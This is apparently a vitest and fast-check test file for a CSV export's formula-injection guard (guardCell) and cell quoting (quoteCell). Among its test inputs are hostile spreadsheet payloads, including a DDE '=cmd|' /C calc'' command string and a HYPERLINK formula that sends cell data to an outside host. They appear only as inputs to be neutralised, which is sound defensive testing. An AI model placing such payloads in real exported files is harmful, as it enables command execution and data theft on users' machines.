import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { quoteCell } from '../../../../electron/export/csv.ts';
import { guardCell } from '../../../../shared/formula-guard.ts';

describe('guardCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+86 138', "'+86 138"],
    ['-cmd', "'-cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\rx', "'\rx"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.example?"&A1,"ok")', '\'=HYPERLINK("http://x.example?"&A1,"ok")'],
    ['  =1', "'  =1"],
    ['\u00a0=1', "'\u00a0=1"],
    ['\u3000\u00a0 -x', "'\u3000\u00a0 -x"],
    ['\u200b=1', "'\u200b=1"],
    ['\ufeff@a', "'\ufeff@a"],
    ['\0=1', "'\0=1"],
    ['＝1+1', "'＝1+1"],
    ['＠a', "'＠a"],
    ['a\n=1', "a\n'=1"],
    ['a\r\n  +1', "a\r\n'  +1"],
    ['a\r=1', "a\r'=1"],
    ['a\u2028=1', "a\u2028'=1"],
    ['=1\n=2', "'=1\n'=2"],
    ['\n=1', "\n'=1"],
    ['-5\n+6', "'-5\n'+6"],
    ['- 5', "'- 5"],
    ['-1,234.50', "'-1,234.50"],
    ['+5', "'+5"],
    ['-1e5', "'-1e5"],
    ['-5 ', "'-5 "],
    ['-５', "'-５"],
    ['--5', "'--5"],
    ['-', "'-"],
    ['x;=1', "x;'=1"],
    ['x; +1;-2', "x;' +1;'-2"],
    ['x\t=1', "x\t'=1"],
  ])('%j becomes %j', (text, safe) => {
    expect(guardCell(text)).toBe(safe);
  });

  it.each([
    ['-300.00'],
    ['300.00'],
    ['-5'],
    ['0'],
    ['24112000000048542163'],
    ['00512384'],
    ['2024-05-28'],
    ['13%'],
    ['a=b'],
    ['上海市远山路2号 021-60000002'],
    ['*纸制品*复印纸'],
    ["'quoted"],
    ['¥-5.00'],
    ['a\n b'],
    [''],
    [' '],
  ])('%j is unchanged', (text) => {
    expect(guardCell(text)).toBe(text);
  });

  const hostile = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u00a0', '1', '.', 'a', '"', ',', "'"),
    maxLength: 12,
  });

  it('leaves no line that starts a formula, unless the cell is a plain number', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const safe = guardCell(text);
        if (/^-?\d+(\.\d+)?$/u.test(safe)) return;
        for (const line of safe.split(/\r\n|\n|\r(?!$)/u)) {
          expect(line.trimStart()).not.toMatch(/^[=+\-@]/u);
          expect(line).not.toMatch(/^[ \u00a0]*\t/u);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('changes a cell only by adding apostrophes', () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ unit: 'binary' })), (text) => {
        const safe = guardCell(text);
        expect(safe.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
        expect(guardCell(safe)).toBe(safe);
      }),
    );
  });

  it('is fast for a long hostile cell', () => {
    const start = performance.now();
    for (const unit of [' ', '\n', '\v', '\r', '\n=', ' \t']) guardCell(`${unit.repeat(200_000)}=`);
    expect(performance.now() - start).toBeLessThan(5000);
  });
});

describe('quoteCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "x"', '"say ""x"""'],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    [' kept ', ' kept '],
  ])('%j is written as %j', (text, written) => {
    expect(quoteCell(text)).toBe(written);
  });
});
